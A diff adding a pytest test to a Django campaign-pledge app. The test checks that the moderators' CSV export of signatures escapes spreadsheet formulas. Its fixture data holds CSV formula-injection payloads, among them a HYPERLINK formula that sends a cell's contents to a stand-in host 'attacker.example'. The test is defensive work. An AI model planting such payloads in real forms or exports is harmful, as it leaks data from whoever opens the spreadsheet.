@@ -1,10 +1,13 @@
 """The campaign pledge: signing, consent, moderation, counts, duplicates, rate limit and
 the moderators-only CSV export."""
 
+import csv
+import io
 import re
 import uuid
 
 import pytest
+from django.contrib.auth import get_user_model
 from django.contrib.auth.models import Group
 from django.urls import reverse
 
@@ -187,6 +190,35 @@ def test_moderators_export_signatures_as_csv(client, django_user_model, campaign
     assert response["Content-Type"].startswith("text/csv")
     content = b"".join(response.streaming_content).decode()
     assert "ana@x.org" in content
+
+
+def test_the_signatures_export_neutralises_formulas(client, campaign):
+    """Names and commitments come from the public form; in the moderators' spreadsheet they
+    must stay text, never a formula."""
+    from home.cocreation.roles import MODERATORS, setup_roles
+
+    setup_roles()
+    hostile = {
+        '=HYPERLINK("https://attacker.example/?d="&F2,"Open")': "@SUM(A1:A9)",
+        "+1": "-1",
+        "\t=1+1": "\r=1+1",
+    }
+    for name, commitment in hostile.items():
+        PledgeSignatureFactory(
+            campaign=campaign, kind="organisation", name=name, commitment=commitment
+        )
+    PledgeSignatureFactory(campaign=campaign, name="Ana", commitment="Listen first.")
+    moderator = get_user_model().objects.create_user("moderator", password="pw")
+    moderator.groups.add(Group.objects.get(name=MODERATORS))
+    client.force_login(moderator)
+    url = reverse("wagtailsnippets_campaigns_pledgesignature:list") + "?export=csv"
+    content = b"".join(client.get(url).streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(content)))
+    cells = {(row["Name"], row["Commitment"]) for row in rows}
+    assert cells == {
+        *{("'" + name, "'" + commitment) for name, commitment in hostile.items()},
+        ("Ana", "Listen first."),
+    }
 
 
 @pytest.mark.parametrize(
